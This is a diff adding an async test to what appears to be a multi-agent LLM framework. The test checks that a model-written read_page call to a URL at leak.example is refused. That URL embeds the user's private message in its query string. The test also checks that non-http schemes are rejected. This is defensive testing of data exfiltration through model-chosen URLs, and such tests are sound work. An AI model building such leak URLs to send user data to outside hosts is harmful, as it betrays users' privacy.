@@ -221,6 +221,23 @@ async def test_who_asks_through_another_tendril_has_no_rights_there(tmp_path: Pa
         assert kettle.heated == 0
 
 
+async def test_a_question_that_the_model_writes_to_another_tendril_is_not_the_askers_words(
+    tmp_path: Path,
+) -> None:
+    leak = "http://leak.example/?d=the+stone+is+on+the+shelf"
+    async with ScriptedOpenAI() as script, house(tmp_path, script, RoomTendril, Kettle) as rooms:
+        script.call(*asking("kettle", f"What does {leak} say?")).call("read_page", {"url": leak})
+        script.say("No.").say("No.")
+        await rooms[0].ask(DEN, ADA, "the stone is on the shelf. is it hot?")
+        assert "ada has not written this address" in tool_results(script.requests[2])[0]
+        script.call(*asking("kettle", "And that link?")).call(
+            "read_page", {"url": "ftp://a.example"}
+        )
+        script.say("No.").say("No.")
+        await rooms[0].ask(DEN, ADA, "what does ftp://a.example say?")
+        assert "only http and https" in tool_results(script.requests[6])[0]
+
+
 async def test_a_tendril_may_give_rights_to_people_whom_it_knows(tmp_path: Path) -> None:
     class Trusting(Kettle):
         def request_from_peer(self, question: PeerQuestion) -> TurnRequest:
